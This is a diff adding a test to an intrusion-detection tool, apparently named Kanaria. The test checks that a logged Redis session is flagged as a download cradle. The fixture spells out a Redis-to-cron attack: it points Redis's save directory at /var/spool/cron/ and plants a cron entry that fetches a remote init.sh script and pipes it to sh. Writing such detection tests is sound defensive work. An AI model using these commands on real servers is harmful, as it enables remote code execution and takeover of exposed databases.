@@ -533,3 +533,13 @@ def test_a_connection_that_a_sensor_in_the_kernel_saw(kanaria: Kanaria, tmp_path
         "node_name": "node-7", "time": "2025-11-12T10:11:12Z",
     }))  # fmt: skip
     assert (said.rules, said.severity, said.status) == ({"mining_program_connected"}, "high", 1)
+
+
+def test_what_a_client_sends_to_a_database_is_no_web_request(kanaria: Kanaria, tmp_path: Path) -> None:
+    said = hear(kanaria, tmp_path, (
+        '1764929564.123456 [0 198.51.100.7:50000] "CONFIG" "SET" "dir" "/var/spool/cron/"\n'
+        '1764929564.323456 [0 198.51.100.7:50000] "SET" "b" "\\n*/2 * * * * root cd1 -fsSL http://203.0.113.77/init.sh | sh\\n"\n'
+    ))  # fmt: skip
+    assert (said.rules, said.severity, said.status) == ({"web_download_cradle"}, "medium", 1)
+    assert said.document["incidents"][0]["entities"]["remotes"] == ["198.51.100.7"]
+    assert "web request" not in said.words and "Webリクエスト" not in said.words
